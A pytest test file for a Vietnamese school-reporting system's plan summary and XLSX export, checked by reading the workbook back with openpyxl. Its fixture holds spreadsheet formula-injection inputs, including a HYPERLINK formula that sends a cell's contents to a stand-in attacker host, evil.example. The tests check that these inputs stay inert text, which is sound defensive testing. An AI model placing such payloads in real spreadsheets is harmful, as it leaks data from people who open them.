"""The Sở's view of a plan and period, and its XLSX, read back with openpyxl."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime, timedelta
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from engine import NotFound, cancel_instance
from tests.workflows.reports.world import (
    HIGH_SCHOOL,
    PERIOD,
    SCHOOL_NAMES,
    SCHOOLS,
    WARD,
    instance,
    simple_input,
)
from workflows.reports.consolidate import plan_summary
from workflows.reports.export import plan_summary_xlsx
from workflows.reports.inputs import FigureInput, ReportInput
from workflows.reports.versions import new_version, set_status
from workflows.timeframes import LOCAL_TZ

MN, TH, THCS, THTHCS = SCHOOLS
HYPERLINK = '=HYPERLINK("http://evil.example/steal?c="&A1,"Bấm vào đây")'


def _report(pe, world, code, report_input, *, approve=False, instance_id=None):
    with pe.unit_of_work(f"{code}_cv") as uow:
        report = new_version(
            uow,
            instance(uow, instance_id or world.instances[code]),
            report_input,
            status="submitted",
        )
        if approve:
            set_status(uow, report, "approved")
    return report


@pytest.fixture
def reported(pe, world, clock):
    _report(
        pe,
        world,
        MN,
        simple_input("MN xong", FigureInput(None, "18", Decimal(12), Decimal(40))),
        approve=True,
    )
    _report(
        pe,
        world,
        TH,
        simple_input("TH xong", FigureInput(None, "18", Decimal(7), Decimal(35))),
        approve=True,
    )
    _report(
        pe,
        world,
        THCS,
        simple_input("THCS đang làm", FigureInput(None, "18", Decimal(0), Decimal(25))),
    )  # not approved
    clock.advance(timedelta(hours=9, minutes=30))  # 17:30 in Hà Nội
    hostile = ReportInput(
        HYPERLINK, "+84 912 345 678", "-1 lớp; @SUM(A1:A9)", (FigureInput(None, "19", Decimal(5)),)
    )
    _report(pe, world, HIGH_SCHOOL, hostile, approve=True)
    with pe.unit_of_work("admin") as uow:
        cancel_instance(uow, world.instances[THTHCS], reason="Trường sáp nhập")
    return world


def test_plan_summary_lists_every_unit_with_its_newest_report(pe, reported):
    world = reported
    with pe.read() as s:
        summary = plan_summary(s, world.plan_id, PERIOD)
    assert (summary.title, summary.number, summary.period) == (
        "Kế hoạch chuyển đổi số 2026",
        "637/KH-SGDĐT",
        PERIOD,
    )
    # Task 1 then task 2; units by code; the cancelled school is not listed.
    assert [(r.task_key, r.unit_code, r.status, r.version) for r in summary.rows] == [
        ("1", HIGH_SCHOOL, "approved", 1),
        ("1", WARD, None, None),
        ("1", MN, "approved", 1),
        ("1", TH, "approved", 1),
        ("1", THCS, "submitted", 1),
        ("2", HIGH_SCHOOL, None, None),
    ]
    by_unit = {(r.task_key, r.unit_code): r for r in summary.rows}
    assert (
        by_unit["1", MN].content == "Báo cáo kết quả triển khai LMS"
        and by_unit["1", MN].unit_name == SCHOOL_NAMES[MN]
    )
    assert by_unit["1", WARD].unit_name == "Phường Hồng Bàng" and by_unit["1", WARD].ket_qua == ""
    assert by_unit["1", HIGH_SCHOOL].ket_qua == HYPERLINK
    assert by_unit["1", HIGH_SCHOOL].submitted_at == datetime(2026, 3, 2, 17, 30, tzinfo=LOCAL_TZ)
    # Approved figures only: 12/40 + 7/35 (the submitted 0/25 is not on record yet).
    [lms, devices] = summary.indicators
    assert (lms.stt, lms.numerator, lms.denominator, lms.units, lms.rate) == (
        "18",
        Decimal(19),
        Decimal(75),
        2,
        Decimal(19) / Decimal(75),
    )
    assert (devices.stt, devices.numerator, devices.denominator, devices.units, devices.rate) == (
        "19",
        Decimal(5),
        None,
        1,
        None,
    )
    with pe.read() as s:
        assert plan_summary(s, world.plan_id, "2026-Q2").rows == ()
        with pytest.raises(NotFound):
            plan_summary(s, 999, PERIOD)


def _hanoi_wall_clock(hour: int, minute: int) -> datetime:
    """What the sheet shows: Excel keeps no time zone, so local time without one."""
    return datetime(2026, 3, 2, hour, minute, tzinfo=LOCAL_TZ).replace(tzinfo=None)


def test_the_xlsx_round_trips_and_never_holds_a_formula(pe, reported):
    with pe.read() as s:
        data = plan_summary_xlsx(plan_summary(s, reported.plan_id, PERIOD))
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["Tổng hợp", "Chỉ tiêu"]
    sheet = workbook["Tổng hợp"]
    header = [c.value for c in sheet[1]]
    assert header == ["STT", "Nội dung", "Đơn vị", "Trạng thái báo cáo", "Phiên bản", "Ngày nộp", "Kết quả",
                      "Khó khăn, vướng mắc", "Kiến nghị"]  # fmt: skip
    assert all(c.font.bold for c in sheet[1]) and sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width >= 40 and sheet.column_dimensions["G"].width >= 40
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert [r[:5] for r in rows] == [
        [
            "1",
            "Báo cáo kết quả triển khai LMS",
            f"Trường THPT Ngô Quyền ({HIGH_SCHOOL})",
            "Đã duyệt",
            1,
        ],
        [
            "1",
            "Báo cáo kết quả triển khai LMS",
            f"Phường Hồng Bàng ({WARD})",
            "Chưa có báo cáo",
            None,
        ],
        ["1", "Báo cáo kết quả triển khai LMS", f"{SCHOOL_NAMES[MN]} ({MN})", "Đã duyệt", 1],
        ["1", "Báo cáo kết quả triển khai LMS", f"{SCHOOL_NAMES[TH]} ({TH})", "Đã duyệt", 1],
        ["1", "Báo cáo kết quả triển khai LMS", f"{SCHOOL_NAMES[THCS]} ({THCS})", "Đã nộp", 1],
        [
            "2",
            "Mua sắm thiết bị dạy học số",
            f"Trường THPT Ngô Quyền ({HIGH_SCHOOL})",
            "Chưa có báo cáo",
            None,
        ],
    ]
    assert rows[2][5] == _hanoi_wall_clock(8, 0)  # T0 is 08:00 in Hà Nội
    assert (
        rows[0][5] == _hanoi_wall_clock(17, 30)
        and sheet.cell(2, 6).number_format == "dd/mm/yyyy hh:mm"
    )
    assert rows[1][5:] == [None, None, None, None]
    # Hostile text stays text: the cells are strings, and the sheet XML has no formula at all.
    hostile = sheet.cell(2, 7), sheet.cell(2, 8), sheet.cell(2, 9)
    assert [c.value for c in hostile] == [HYPERLINK, "+84 912 345 678", "-1 lớp; @SUM(A1:A9)"]
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)

    indicators = workbook["Chỉ tiêu"]
    assert [c.value for c in indicators[1]] == [
        "STT",
        "Chỉ tiêu",
        "Đơn vị tính",
        "Tử số",
        "Mẫu số",
        "Tỷ lệ %",
        "Số đơn vị",
    ]
    assert indicators.freeze_panes == "A2" and all(c.font.bold for c in indicators[1])
    assert [[c.value for c in row] for row in indicators.iter_rows(min_row=2)] == [
        ["18", "Lớp học dùng hệ thống LMS", "%", 19, 75, 25.33, 2],
        ["19", "Thiết bị dạy học số được mua", "bộ", 5, None, None, 1],
    ]
